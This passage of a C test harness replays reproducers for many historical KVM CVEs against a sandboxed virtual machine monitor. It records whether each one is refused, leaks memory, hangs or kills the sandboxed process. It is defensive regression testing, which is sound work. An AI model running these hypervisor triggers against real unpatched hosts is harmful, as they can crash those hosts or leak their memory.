// SPDX-License-Identifier: GPL-2.0-or-later
/* One row: a VMM that makes its guest send, or sends itself, what once was an attack. Says what came of it: "RESULT how: what". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "cve.h"
#include "cve_guest.h"

#ifndef KVM_SET_MEMORY_ATTRIBUTES
#define KVM_SET_MEMORY_ATTRIBUTES _IOW(KVMIO, 0xd2, uint64_t[4])
#endif
#define HC_SEND_IPI 10
#define HC_SCHED_YIELD 11
#define MSR_SYSTEM_TIME 0x4b564d01
#define MSR_DEADLINE 0x6e0

static int shadow;	    /* its pid, as seen from here */
static pthread_t attacker;  /* the thread that makes the calls */
static atomic_int finished; /* the attacker is through with it */

static __attribute__((noreturn, format(printf, 2, 3))) void result(const char *how, const char *format, ...)
{
	va_list args;

	printf("RESULT %s: ", how);
	va_start(args, format);
	vprintf(format, args);
	va_end(args);
	printf("\n");
	fflush(stdout);
	_exit(0);
}

static void pause_ms(unsigned int ms)
{
	nanosleep(&(struct timespec) { ms / 1000, ms % 1000 * 1000000 }, NULL);
}

/* ---- the shadow, seen from outside ---- */

static int first_child(int pid)
{
	char path[64], text[256];
	DIR *tasks;
	struct dirent *task;
	int child = 0;

	snprintf(path, sizeof(path), "/proc/%d/task", pid);
	tasks = opendir(path);
	while (tasks && !child && (task = readdir(tasks))) {
		FILE *file;

		snprintf(text, sizeof(text), "/proc/%d/task/%.20s/children", pid, task->d_name);
		file = fopen(text, "r");
		if (file && fscanf(file, "%d", &child) != 1)
			child = 0;
		if (file)
			fclose(file);
	}
	if (tasks)
		closedir(tasks);
	return child;
}

/* The number behind a line of /proc/PID/task/TID/status */
static uint64_t status_field(const char *path, const char *name, int base)
{
	char line[256];
	uint64_t value = ~0ull;
	FILE *file = fopen(path, "r");

	while (file && fgets(line, sizeof(line), file))
		if (!strncmp(line, name, strlen(name)) && line[strlen(name)] == ':')
			value = strtoull(line + strlen(name) + 1, NULL, base);
	if (file)
		fclose(file);
	return value;
}

static int same_link(const char *what)
{
	char a[64], b[64], one[128] = "", two[128] = "";

	snprintf(a, sizeof(a), "/proc/self/ns/%s", what);
	snprintf(b, sizeof(b), "/proc/%d/ns/%s", shadow, what);
	return readlink(a, one, sizeof(one) - 1) < 0 || readlink(b, two, sizeof(two) - 1) < 0 || !strcmp(one, two);
}

static int entries(const char *format)
{
	char path[64];
	struct dirent *entry;
	int count = 0;
	DIR *dir;

	snprintf(path, sizeof(path), format, shadow);
	dir = opendir(path);
	if (!dir)
		return -1;
	while ((entry = readdir(dir)))
		count += entry->d_name[0] != '.';
	closedir(dir);
	return count;
}

/* Every thread filtered, nothing of the kernel's privileges, names or files. Before the attack. */
static void sandbox_check(const char *when)
{
	static const char *const namespaces[] = { "user", "mnt", "net", "ipc", "uts", "pid" };
	char path[128], filters[128] = "";
	unsigned int own = 0, threads = 0, bad = 0;
	uint64_t uid = 0, eff = 0, bounding = 0, nnp = 1;
	struct dirent *task;
	int files, root;
	DIR *tasks;

	shadow = first_child(first_child(getpid()));
	if (!shadow)
		result("broken", "no shadow to be seen");
	for (size_t i = 0; i < sizeof(namespaces) / sizeof(namespaces[0]); i++)
		own += !same_link(namespaces[i]);
	snprintf(path, sizeof(path), "/proc/%d/task", shadow);
	tasks = opendir(path);
	while (tasks && (task = readdir(tasks))) {
		if (task->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%d/task/%.20s/status", shadow, task->d_name);
		threads++;
		bad += status_field(path, "Seccomp", 10) != 2;
		eff |= status_field(path, "CapEff", 16) | status_field(path, "CapPrm", 16) |
		       status_field(path, "CapInh", 16);
		bounding |= status_field(path, "CapBnd", 16);
		nnp &= status_field(path, "NoNewPrivs", 10);
		uid = status_field(path, "Uid", 10);
		snprintf(filters + strlen(filters), sizeof(filters) - strlen(filters), "%s%d", threads > 1 ? "," : "",
			 (int)status_field(path, "Seccomp_filters", 10));
	}
	if (tasks)
		closedir(tasks);
	files = entries("/proc/%d/fd");
	root = entries("/proc/%d/root");
	printf("SANDBOX %s: %u threads, all with seccomp mode 2 (filters %s), capabilities %llx bounding %llx, no_new_privs %llu, uid %llu, "
	       "%u of 6 namespaces its own, %d names in its root, %d descriptors\n",
	       when, threads, filters, (unsigned long long)eff, (unsigned long long)bounding, (unsigned long long)nnp,
	       (unsigned long long)uid, own, root, files);
	if (!threads || bad || eff || bounding || nnp != 1 || uid != 65534 || own != 6 || root)
		result("broken", "the sandbox is not what it should be");
}

static int shadow_alive(void)
{
	return !kill(shadow, 0);
}

static void shadow_died(const char *what)
{
	for (int i = 0; i < 50 && shadow && shadow_alive(); i++)
		pause_ms(100);
	if (shadow && shadow_alive())
		result("broken", "%s EIO, but the shadow lives", what);
	result("dies", "%s EIO", what);
}

/* CPU time of the shadow, clock ticks */
static unsigned long cpu_time(void)
{
	unsigned long user = 0, system = 0;
	char path[64];
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/stat", shadow);
	file = fopen(path, "r");
	if (file &&
	    fscanf(file, "%*d (%*[^)]) %*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %lu %lu", &user, &system) != 2)
		user = system = 0;
	if (file)
		fclose(file);
	return user + system;
}

static void on_signal(int nr)
{
	(void)nr;
}

/* For what does not come back: 1.5 s, then a signal, then the end of the VMM. */
static void *watch(void *arg)
{
	unsigned long before, ticks;

	(void)arg;
	for (int i = 0; i < 15; i++) {
		pause_ms(100);
		if (atomic_load(&finished))
			return NULL;
	}
	before = cpu_time();
	pause_ms(1000);
	ticks = cpu_time() - before;
	if (atomic_load(&finished))
		return NULL;
	pthread_kill(attacker, SIGUSR1);
	for (int i = 0; i < 10; i++) {
		pause_ms(100);
		if (atomic_load(&finished))
			return NULL;
	}
	if (ticks < 20)
		result("broken", "the call hangs, and the shadow uses no CPU time");
	result("spins", "the call does not come back, %lu%% of a CPU; ended with its VMM", ticks);
}

/* ---- what leaked ---- */

/* Bytes that are not the filling; none may be of the witness's guest. */
static unsigned int leaked(const void *data, size_t size, uint8_t filling)
{
	const uint8_t *bytes = data;
	unsigned int count = 0;

	for (size_t i = 0; i < size; i++)
		count += bytes[i] != filling;
	if (memmem(data, size, WITNESS_MARK, 8))
		result("broken", "memory of another guest");
	return count;
}

static void leak_result(unsigned int count, const char *to)
{
	if (!count)
		result("nothing", "no byte came");
	if (guest_run(0))
		result("broken", "the guest does not go on after the leak");
	result("leaks", "%u bytes of its own memory to %s; guest and shadow go on", count, to);
}

static void go(void)
{
	int ret = guest_run(0);

	if (ret)
		result("nothing", "KVM_RUN: %d", ret);
}

/* An instruction of this guest must end with this exception. */
static void expect_vector(int vector)
{
	go();
	if (seen.vector != vector)
		result("nothing", "vector %d, not %d", seen.vector, vector);
}

static void expect_refused(const char *what, int ret)
{
	if (ret >= 0)
		result("nothing", "%s: accepted", what);
	go();
	result("refused", "%s: %s", what, strerror(-ret));
}

/* ---- emulator ---- */

static void over_long(void)
{
	for (int i = 0; i < 9; i++)
		EMIT("\x66");
	load32(MMIO);
	go();
}

static void mov_dr(void)
{
	EMIT("\x0f\x21\xc0"); /* mov eax, dr0 */
	go();
}

static void rep_from_mmio(void)
{
	set_reg(1, 0x100);
	set_reg(6, MMIO);
	set_reg(7, GUEST_DATA);
	EMIT("\xf3\xa5"); /* rep movsd */
	go();
}

static void disp32_form(void)
{
	EMIT("\x8b\x05"); /* mov eax, [disp32]: relative to RIP in 64-bit code */
	emit32(MMIO);
	go();
}

static void prefixed(void)
{
	EMIT("\x66"); /* mov ax, [moffs] */
	load32(MMIO);
	go();
}

static void two_writes(void)
{
	store32(MMIO, 0x41414141);
	store32(MMIO + 4, 0x41414141);
	go();
}

static void byte_write(void)
{
	store8(MMIO, 0x77);
	go();
	leak_result(leaked(seen.mmio + 1, 7, 0), "the VMM");
}

static void small_write(void)
{
	store32(MMIO, 0x77777777);
	go();
	leak_result(leaked(seen.mmio, 4, 0x77), "the VMM");
}

static void fault_in_emulator(void)
{
	set_reg(6, MMIO);
	set_reg(7, 0x800000); /* not there */
	EMIT("\xa5");	      /* movsd */
	go();
	if (seen.vector != 14)
		result("nothing", "vector %d, no #PF", seen.vector);
	if (seen.cr2 == 0x800000)
		result("nothing", "CR2 is right");
	leak_result(4, "the guest (CR2)");
}

static void unknown_insn(void)
{
	EMIT("\xd9\x05"); /* fld dword [MMIO] */
	emit32(MMIO);
	go();
}

static void unknown_insn_user(void)
{
	unknown_insn();
	if (seen.vector != 6)
		result("nothing", "vector %d, no #UD", seen.vector);
	result("refused", "#UD to the unprivileged program, whose kernel goes on");
}

/* ---- interrupts ---- */

static void only_run(void)
{
	go();
}

static void create_irqchip(void)
{
	call(vm, KVM_CREATE_IRQCHIP, NULL, "KVM_CREATE_IRQCHIP");
}

static void route(uint32_t gsi, uint32_t data)
{
	static uint64_t room[16];
	struct kvm_irq_routing *arg = (void *)room;

	arg->nr = 1;
	arg->entries[0].gsi = gsi;
	arg->entries[0].type = KVM_IRQ_ROUTING_MSI;
	arg->entries[0].u.msi.address_lo = LAPIC;
	arg->entries[0].u.msi.data = data;
	call(vm, KVM_SET_GSI_ROUTING, arg, "KVM_SET_GSI_ROUTING");
}

static void any_gsi(void)
{
	route(0x10000000, 0x35);
}

static void split_route(void)
{
	route(3, 0x8000 | IRQ_VECTOR); /* level-triggered: its EOI matters */
	go();
}

static void ioapic_read_all(void)
{
	for (uint32_t reg = 0x40; reg < 0x100; reg++) {
		store32(IOAPIC, reg);
		load32(IOAPIC + 0x10);
		say_eax();
	}
	go();
	if (seen.count != 0xc0)
		result("nothing", "%u registers", seen.count);
	for (unsigned int i = 0; i < seen.count; i++)
		if (seen.said[i] == 0xffffffff)
			seen.said[i] = 0;
	leak_result(leaked(seen.said, sizeof(seen.said), 0), "the guest");
}

static void ioapic_dest(void)
{
	store32(IOAPIC, 0x11);
	store32(IOAPIC + 0x10, 0xff000000);
	go();
}

static void lapic_count(void)
{
	load32(LAPIC + 0x390);
	go();
}

static void lapic_nowhere(void)
{
	for (uint32_t reg = 0x400; reg < 0x1000; reg += 16) {
		load32(LAPIC + reg);
		say_eax();
	}
	go();
	leak_result(leaked(seen.said, sizeof(seen.said), 0), "the guest");
}

static void lapic_logical(void)
{
	store32(LAPIC + 0xd0, 0xff000000);
	go();
}

static void vapic_addr(void)
{
	uint64_t addr = SLOT1 + SLOT_SIZE - 4;

	call(vcpu[0], KVM_SET_VAPIC_ADDR, &addr, "KVM_SET_VAPIC_ADDR");
}

/* A level-triggered interrupt whose line stays up over its EOI. */
static void level_eoi(void)
{
	struct kvm_irq_level level = { .irq = IRQ_PIN, .level = 1 };

	out8(0x21, 0xff); /* the PIC has the line, too */
	store32(LAPIC + 0xf0, 0x1ff);
	store32(IOAPIC, 0x11 + 2 * IRQ_PIN);
	store32(IOAPIC + 0x10, 0);
	store32(IOAPIC, 0x10 + 2 * IRQ_PIN);
	store32(IOAPIC + 0x10, 0x8000 | IRQ_VECTOR);
	EMIT("\xfb\x90\x90\x90\xfa");
	need(vm, KVM_IRQ_LINE, &level, "KVM_IRQ_LINE");
	go();
}

static void mp_state(void)
{
	struct kvm_mp_state state;

	call(vcpu[0], KVM_GET_MP_STATE, &state, "KVM_GET_MP_STATE");
}

static void irqfd_far(void)
{
	struct kvm_irqfd arg = { .fd = eventfd(0, EFD_NONBLOCK), .gsi = 0x10000 };

	call(vm, KVM_IRQFD, &arg, "KVM_IRQFD");
}

static void irqfd_raise(void)
{
	struct kvm_irqfd arg = { .fd = eventfd(0, EFD_NONBLOCK), .gsi = 5000 };
	uint64_t one = 1;

	need(vm, KVM_IRQFD, &arg, "KVM_IRQFD");
	if (write(arg.fd, &one, sizeof(one)) != sizeof(one))
		result("broken", "eventfd");
	for (int i = 0; i < 30 && shadow_alive(); i++)
		pause_ms(100);
	go();
}

static void msi(uint32_t dest)
{
	struct kvm_msi arg = { .address_lo = LAPIC | dest << 12, .data = IRQ_VECTOR };

	call(vm, KVM_SIGNAL_MSI, &arg, "KVM_SIGNAL_MSI");
}

static void msi_first(void)
{
	msi(0);
}

static void msi_nobody(void)
{
	msi(5);
}

/* ---- PIT ---- */

static void pit_control_read(void)
{
	in8(0x43);
	go();
}

static void pit_alone(void)
{
	struct kvm_pit_config config = { 0 };

	call(vm, KVM_CREATE_PIT2, &config, "KVM_CREATE_PIT2");
}

static void *second_vcpu(void *arg)
{
	(void)arg;
	guest_run(1);
	return NULL;
}

/* Both vCPUs program the timer over and over. */
static void pit_race(void)
{
	pthread_t thread;

	set_reg(1, 20000);
	out8(0x43, 0x34);
	EMIT("\xe2\xf3"); /* loop to the out8's beginning */
	memcpy(ram + 0x11000, ram + 0x10000, 64);
	ram[0x11000 + 18] = 0xf4; /* HLT: the end of the second one is not waited for */
	if (pthread_create(&thread, NULL, second_vcpu, NULL))
		result("broken", "thread");
	go();
}

static void pit_zero(void)
{
	struct kvm_pit_state2 state = { .channels[0].mode = 2 };

	call(vm, KVM_SET_PIT2, &state, "KVM_SET_PIT2");
}

/* ---- paravirtual ---- */

static void clock_unaligned(void)
{
	wrmsr(MSR_SYSTEM_TIME, (SLOT1 + SLOT_SIZE - 4) | 3);
	go();
}

static void clock_moved(void)
{
	struct kvm_clock_data data = { .clock = 1000 };

	wrmsr(MSR_SYSTEM_TIME, SLOT1 | 1);
	go();
	if (slot_set(1, SLOT1, 0))
		result("broken", "the slot does not go");
	need(vm, KVM_SET_CLOCK, &data, "KVM_SET_CLOCK");
	go();
}

static void send_ipi(uint32_t min)
{
	set_reg(0, HC_SEND_IPI);
	set_reg(3, 1);
	set_reg(1, 0);
	set_reg(2, min);
	set_reg(6, IRQ_VECTOR);
	EMIT("\x0f\x01\xd9"); /* vmmcall */
	go();
}

static void send_ipi_first(void)
{
	send_ipi(0);
}

static void send_ipi_far(void)
{
	send_ipi(0x7ffffff0);
}

static void yield_far(void)
{
	set_reg(0, HC_SCHED_YIELD);
	set_reg(3, 0x7ffffff0);
	EMIT("\x0f\x01\xd9"); /* vmmcall */
	go();
}

/* ---- MSRs, CPUID ---- */

static void mce_banks(void)
{
	uint64_t cap = 0xffffff;

	call(vcpu[0], KVM_X86_SETUP_MCE, &cap, "KVM_X86_SETUP_MCE");
}

static void mtrr_hole(void)
{
	wrmsr(0x2f8, 0x4141414141414141);
	go();
}

static void cpuid_list(unsigned long nr, uint32_t count, const char *what)
{
	struct kvm_cpuid2 *list = calloc(1, 1 << 20);

	if (!list)
		result("broken", "memory");
	list->nent = count;
	call(kvm, nr, list, what);
}

static void cpuid_wraps(void)
{
	cpuid_list(KVM_GET_SUPPORTED_CPUID, 0x06666667, "KVM_GET_SUPPORTED_CPUID");
}

static void cpuid_emulated(void)
{
	cpuid_list(KVM_GET_EMULATED_CPUID, 256, "KVM_GET_EMULATED_CPUID");
}

/* ---- vCPU state ---- */

static void far_root(void)
{
	struct kvm_sregs sregs;

	need(vcpu[0], KVM_GET_SREGS, &sregs, "KVM_GET_SREGS");
	sregs.cr3 = 0xfffffff000;
	call(vcpu[0], KVM_SET_SREGS, &sregs, "KVM_SET_SREGS");
}

static void get_events(void)
{
	struct kvm_vcpu_events events = { 0 };

	need(vcpu[0], KVM_GET_VCPU_EVENTS, &events, "KVM_GET_VCPU_EVENTS");
	leak_result(leaked(events.reserved, sizeof(events.reserved), 0), "the VMM");
}

static void get_debugregs(void)
{
	struct kvm_debugregs regs = { 0 };

	need(vcpu[0], KVM_GET_DEBUGREGS, &regs, "KVM_GET_DEBUGREGS");
	leak_result(leaked(regs.reserved, sizeof(regs.reserved), 0), "the VMM");
}

static void get_xsave(void)
{
	static struct kvm_xsave area;

	need(vcpu[0], KVM_GET_XSAVE, &area, "KVM_GET_XSAVE");
	leak_result(leaked((uint8_t *)&area + 576, sizeof(area) - 576, 0), "the VMM");
}

static void events_and_slots(void)
{
	struct kvm_vcpu_events events = { 0 };

	need(vcpu[0], KVM_SET_VCPU_EVENTS, &events, "KVM_SET_VCPU_EVENTS");
	if (slot_set(1, SLOT1, 0))
		result("broken", "the slot does not go");
	need(vcpu[0], KVM_SET_VCPU_EVENTS, &events, "KVM_SET_VCPU_EVENTS");
}

static void mp_state_and_slots(void)
{
	struct kvm_mp_state state;

	need(vcpu[0], KVM_GET_MP_STATE, &state, "KVM_GET_MP_STATE");
	if (slot_set(1, SLOT1, 0))
		result("broken", "the slot does not go");
	mp_state();
}

/* ---- exits ---- */

static void mmio_loop(void)
{
	int ret;

	load32(MMIO);
	ret = guest_run(0);
	if (ret == -EINTR)
		result("spins", "the guest makes no progress; a signal still ends KVM_RUN (EINTR)");
	result("nothing", "KVM_RUN: %d", ret);
}

/* In the pages that the shadow has: a VMM's own kvm_run is another one, of which the glue hands over no such field. */
static void shared_index(void)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	unsigned long start, end, offset, found = 0;
	char line[512];

	while (maps && fgets(line, sizeof(line), maps)) {
		if (!strstr(line, "/memfd:umbra-vcpu") || sscanf(line, "%lx-%lx %*s %lx", &start, &end, &offset) != 3 ||
		    offset)
			continue;
		((struct kvm_run *)start)->internal.ndata = 0x70000000;
		found++;
	}
	if (!found)
		result("broken", "no page that the shadow has");
	fclose(maps);
	unknown_insn();
}

static void inject_closed(void)
{
	struct kvm_vcpu_events events = { .interrupt = { .injected = 1, .nr = IRQ_VECTOR } };

	need(vcpu[0], KVM_SET_VCPU_EVENTS, &events, "KVM_SET_VCPU_EVENTS");
	go();
}

static void triple_fault(void)
{
	EMIT("\x0f\x01\x1d"); /* lidt [...]: limit 0 */
	emit32(GUEST_DATA);
	EMIT("\x0f\x0b");
	go();
}

static void deadline(void)
{
	wrmsr(MSR_DEADLINE, 0);
	go();
}

/* ---- calls on the VM ---- */

static void vcpu_far(void)
{
	call(vm, KVM_CREATE_VCPU, (void *)0x10000000, "KVM_CREATE_VCPU");
}

static void create_device(void)
{
	struct kvm_create_device device = { .type = 0x41414141, .fd = 0x41414141 };

	call(vm, KVM_CREATE_DEVICE, &device, "KVM_CREATE_DEVICE");
}

static void zone(unsigned long nr)
{
	struct kvm_coalesced_mmio_zone arg = { .addr = MMIO + 0x1000, .size = 0x100 };

	need(vm, nr, &arg,
	     nr == KVM_REGISTER_COALESCED_MMIO ? "KVM_REGISTER_COALESCED_MMIO" : "KVM_UNREGISTER_COALESCED_MMIO");
}

static void ring_index(void)
{
	int page = ioctl(kvm, KVM_CHECK_EXTENSION, KVM_CAP_COALESCED_MMIO);
	struct kvm_coalesced_mmio_ring *ring = (void *)((uint8_t *)run[0] + page * 4096);

	zone(KVM_REGISTER_COALESCED_MMIO);
	ring->last = 0x10000000;
	store32(MMIO + 0x1000, 1);
	go();
}

static void zone_removed(void)
{
	zone(KVM_REGISTER_COALESCED_MMIO);
	zone(KVM_UNREGISTER_COALESCED_MMIO);
}

static void zone_leak(void)
{
	char path[64];
	uint64_t before;

	snprintf(path, sizeof(path), "/proc/%d/status", shadow);
	before = status_field(path, "RssAnon", 10);
	for (int i = 0; i < 64; i++)
		zone_removed();
	before = status_field(path, "RssAnon", 10) - before;
	go();
	if (before < 60 << 10)
		result("nothing", "%llu KiB more", (unsigned long long)before);
	result("leaks", "%llu MiB of memory, its own; guest and shadow go on", (unsigned long long)before >> 10);
}

static void slots_fewer(void)
{
	load32(MMIO);
	go();
	if (slot_set(1, SLOT1, 0) || slot_set(2, SLOT2, 0))
		result("broken", "the slots do not go");
	load32(MMIO);
	go();
}

static void slot_huge(void)
{
	struct kvm_userspace_memory_region region = { .slot = 9, .guest_phys_addr = 1ull << 45 };

	call(vm, KVM_SET_USER_MEMORY_REGION, &region, "KVM_SET_USER_MEMORY_REGION");
}

static void ioeventfd(void)
{
	struct kvm_ioeventfd arg = { .addr = MMIO + 0x100, .len = 4, .fd = eventfd(0, EFD_NONBLOCK) };

	need(vm, KVM_IOEVENTFD, &arg, "KVM_IOEVENTFD");
	store32(MMIO + 0x101, 1);
	go();
}

/* From MMIO to a page that nobody has touched: the emulator sets its entry's bits. */
static void walk_write(void)
{
	set_reg(6, MMIO);
	set_reg(7, SLOT1);
	EMIT("\xa5");
	go();
}

/* ---- the real input, to the product ---- */

static void svm_switched_off(void)
{
	wrmsr(0xc0000080, 1 << 12); /* EFER.SVME */
	expect_vector(13);
	EMIT("\x0f\x01\xd8"); /* vmrun */
	expect_vector(6);
	result("refused", "EFER.SVME: #GP, VMRUN: #UD");
}

static void vmload_vmsave(void)
{
	EMIT("\x0f\x01\xda");
	expect_vector(6);
	EMIT("\x0f\x01\xdb");
	expect_vector(6);
	result("refused", "VMLOAD, VMSAVE: #UD");
}

static void invlpga(void)
{
	EMIT("\x0f\x01\xdf");
	expect_vector(6);
	result("refused", "#UD");
}

static void dirty_ring(void)
{
	struct kvm_enable_cap cap = { .cap = 192, .args[0] = 4096 }; /* KVM_CAP_DIRTY_LOG_RING */
	int ret = call(vm, KVM_ENABLE_CAP, &cap, "KVM_ENABLE_CAP");

	if (ret >= 0)
		result("nothing", "there is a dirty ring");
	expect_refused("KVM_CAP_DIRTY_LOG_RING", ret);
}

static void reset_dirty_rings(void)
{
	expect_refused("KVM_RESET_DIRTY_RINGS", call(vm, _IO(KVMIO, 0xc7), NULL, "KVM_RESET_DIRTY_RINGS"));
}

static void xen_vm(void)
{
	static uint8_t attr[0x48];

	expect_refused("KVM_XEN_HVM_SET_ATTR",
		       call(vm, _IOC(_IOC_WRITE, KVMIO, 0xc9, 0x48), attr, "KVM_XEN_HVM_SET_ATTR"));
}

static void xen_vcpu(void)
{
	static uint8_t attr[0x48];

	expect_refused("KVM_XEN_VCPU_SET_ATTR",
		       call(vcpu[0], _IOC(_IOC_WRITE, KVMIO, 0xcb, 0x48), attr, "KVM_XEN_VCPU_SET_ATTR"));
}

static void nested_state(void)
{
	static uint8_t state[8192];

	((struct kvm_nested_state *)state)->size = sizeof(state);
	((struct kvm_nested_state *)state)->format = 1; /* SVM */
	((struct kvm_nested_state *)state)->flags = 1;	/* guest mode */
	expect_refused("KVM_SET_NESTED_STATE", call(vcpu[0], KVM_SET_NESTED_STATE, state, "KVM_SET_NESTED_STATE"));
}

static void smi(void)
{
	expect_refused("KVM_SMI", call(vcpu[0], KVM_SMI, NULL, "KVM_SMI"));
}

static void attributes(void)
{
	uint64_t arg[4] = { 0, ~0xfffull, 8, 0 };

	expect_refused("KVM_SET_MEMORY_ATTRIBUTES",
		       call(vm, KVM_SET_MEMORY_ATTRIBUTES, arg, "KVM_SET_MEMORY_ATTRIBUTES"));
}

/* ---- more real input ---- */

static void noncanonical_msrs(void)
{
	/* Those that exit; QEMU 7.2 does not check the bases, which do not. */
	static const uint32_t msrs[] = { 0xc0000082, 0xc0000083 };

	for (size_t i = 0; i < sizeof(msrs) / sizeof(msrs[0]); i++) {
		wrmsr(msrs[i], 0x8000000000000000ull);
		expect_vector(13);
	}
	result("refused", "LSTAR, CSTAR: #GP");
}

static void osxsave(void)
{
	struct kvm_sregs sregs;

	if (ioctl(kvm, KVM_CHECK_EXTENSION, KVM_CAP_XCRS) > 0)
		result("broken", "this machine has XSAVE");
	need(vcpu[0], KVM_GET_SREGS, &sregs, "KVM_GET_SREGS");
	sregs.cr4 |= 1 << 18;
	expect_refused("KVM_SET_SREGS with CR4.OSXSAVE", call(vcpu[0], KVM_SET_SREGS, &sregs, "KVM_SET_SREGS"));
}

static void guest_memfd(void)
{
	static uint64_t arg[8] = { 1 << 20 };

	expect_refused("KVM_CREATE_GUEST_MEMFD",
		       call(vm, _IOC(_IOC_READ | _IOC_WRITE, KVMIO, 0xd4, 64), arg, "KVM_CREATE_GUEST_MEMFD"));
}

static void region2(void)
{
	/* slot, flags (KVM_MEM_GUEST_MEMFD), gpa, size, address, guest_memfd_offset, guest_memfd */
	static uint64_t arg[20] = { 1 | 4ull << 32, SLOT1, SLOT_SIZE, 0, ~0xfffull, 3 };

	expect_refused("KVM_SET_USER_MEMORY_REGION2",
		       call(vm, _IOC(_IOC_WRITE, KVMIO, 0x49, 160), arg, "KVM_SET_USER_MEMORY_REGION2"));
}

static void toggle_memfd(void)
{
	struct kvm_userspace_memory_region region = { .slot = 1, .flags = 4 };

	expect_refused("KVM_SET_USER_MEMORY_REGION with KVM_MEM_GUEST_MEMFD",
		       call(vm, KVM_SET_USER_MEMORY_REGION, &region, "KVM_SET_USER_MEMORY_REGION"));
}

static void byte_in(void)
{
	set_reg(2, 0x300);
	set_reg(0, 0xffffffff);
	EMIT("\xec");
	say_eax();
	go();
	if (seen.said[0] >> 8 == 0xffffff)
		result("nothing", "EAX is right");
	if (guest_run(0))
		result("broken", "the guest does not go on");
	result("errs", "a register of its own guest is wrong; guest and shadow go on");
}

/* ---- which ---- */

static const struct row {
	const char *id;
	unsigned int machine;
	void (*attack)(void);
} rows[] = {
	{ "CVE-2009-4031", SPINS, over_long },
	{ "CVE-2010-0435", 0, mov_dr },
	{ "CVE-2014-0049", 0, rep_from_mmio },
	{ "CVE-2014-7842", USER, unknown_insn_user },
	{ "CVE-2014-8480", 0, disp32_form },
	{ "CVE-2016-8630", 0, prefixed },
	{ "CVE-2017-2584", 0, two_writes },
	{ "CVE-2017-17741", 0, byte_write },
	{ "CVE-2019-7222", PAGING, fault_in_emulator },
	{ "CVE-2022-1852", 0, unknown_insn },
	{ "CVE-2026-31588", 0, small_write },

	{ "CVE-2009-3640", NO_CHIP, only_run },
	{ "CVE-2012-1601", NO_CHIP, create_irqchip },
	{ "CVE-2012-2137", 0, any_gsi },
	{ "CVE-2013-1798", PIT, ioapic_read_all },
	{ "CVE-2013-6367", 0, lapic_count },
	{ "CVE-2013-6368", 0, vapic_addr },
	{ "CVE-2013-6376", 0, lapic_logical },
	{ "CVE-2014-0155", 0, level_eoi },
	{ "CVE-2015-4692", NO_CHIP, mp_state },
	{ "CVE-2016-9777", 0, level_eoi },
	{ "CVE-2017-1000252", 0, irqfd_far },
	{ "CVE-2018-19407", SPLIT, split_route },
	{ "CVE-2020-27152", 0, level_eoi },
	{ "CVE-2021-47255", 0, lapic_nowhere },
	{ "CVE-2021-47390", 0, ioapic_dest },
	{ "CVE-2022-2153", 0, msi_first },
	{ "CVE-2022-49154", 0, irqfd_raise },
	{ "CVE-2026-74517", 0, level_eoi },

	{ "CVE-2010-0309", PIT, pit_control_read },
	{ "CVE-2011-4622", NO_CHIP, pit_alone },
	{ "CVE-2014-3611", PIT | TWO, pit_race },
	{ "CVE-2015-7513", PIT, pit_zero },

	{ "CVE-2013-1796", 0, clock_unaligned },
	{ "CVE-2013-1797", 0, clock_moved },
	{ "CVE-2018-19406", NO_CHIP, send_ipi_first },
	{ "CVE-2024-40953", 0, yield_far },
	{ "CVE-2025-21779", NO_CHIP, send_ipi_first },
	{ "CVE-2026-64247", 0, send_ipi_far },

	{ "CVE-2009-3638", 0, cpuid_wraps },
	{ "CVE-2009-4004", 0, mce_banks },
	{ "CVE-2016-3713", 0, mtrr_hole },
	{ "CVE-2019-19332", 0, cpuid_emulated },

	{ "CVE-2009-2287", 0, far_root },
	{ "CVE-2010-4525", 0, get_events },
	{ "CVE-2022-49557", 0, get_xsave },
	{ "CVE-2023-1513", 0, get_debugregs },
	{ "CVE-2024-46830", 0, events_and_slots },
	{ "CVE-2025-23141", 0, mp_state_and_slots },

	{ "CVE-2020-36310", SPINS, mmio_loop },
	{ "CVE-2021-3501", 0, shared_index },
	{ "CVE-2022-4994", 0, byte_in },
	{ "CVE-2022-50228", 0, inject_closed },
	{ "CVE-2025-37957", 0, triple_fault },
	{ "CVE-2025-40038", 0, deadline },

	{ "CVE-2013-4587", 0, vcpu_far },
	{ "CVE-2016-10150", 0, create_device },
	{ "CVE-2019-6974", 0, create_device },
	{ "CVE-2019-14821", 0, ring_index },
	{ "CVE-2020-36312", 0, zone_leak },
	{ "CVE-2020-36313", 0, slots_fewer },
	{ "CVE-2021-47060", 0, zone_removed },
	{ "CVE-2021-47061", 0, zone_removed },
	{ "CVE-2021-47341", 0, zone_removed },
	{ "CVE-2022-49568", 0, create_device },
	{ "CVE-2023-54024", 0, zone_leak },
	{ "CVE-2024-58083", 0, msi_nobody },
	{ "CVE-2025-38506", SPINS, slot_huge },
	{ "CVE-2026-63806", 0, ioeventfd },

	{ "CVE-2017-12188", PAGING, walk_write },
	{ "CVE-2022-1158", PAGING, walk_write },
	{ "CVE-2022-49562", PAGING, walk_write },

	{ "CVE-2012-4461", 0, osxsave },
	{ "CVE-2014-3610", 0, noncanonical_msrs },
	{ "CVE-2021-3653", 0, svm_switched_off },
	{ "CVE-2021-3656", 0, vmload_vmsave },
	{ "CVE-2021-4095", 0, xen_vm },
	{ "CVE-2022-1263", 0, dirty_ring },
	{ "CVE-2022-3344", 0, svm_switched_off },
	{ "CVE-2022-48763", 0, smi },
	{ "CVE-2022-48793", 0, nested_state },
	{ "CVE-2022-49774", 0, xen_vm },
	{ "CVE-2022-50227", 0, xen_vcpu },
	{ "CVE-2024-26991", 0, attributes },
	{ "CVE-2025-40274", 0, guest_memfd },
	{ "CVE-2025-68810", 0, toggle_memfd },
	{ "CVE-2026-43133", 0, vmload_vmsave },
	{ "CVE-2026-46082", 0, invlpga },
	{ "CVE-2026-52969", 0, reset_dirty_rings },
	{ "CVE-2026-64283", 0, region2 },

	{ "TAKEOVER-vcpu-", 0, deadline },
	{ "TAKEOVER-control-", 0, create_device },
	{ "TAKEOVER-event-", 0, irqfd_raise },
};

int row_main(const char *id)
{
	const struct row *row = NULL;
	pthread_t watcher;

	setvbuf(stdout, NULL, _IOLBF, 0);
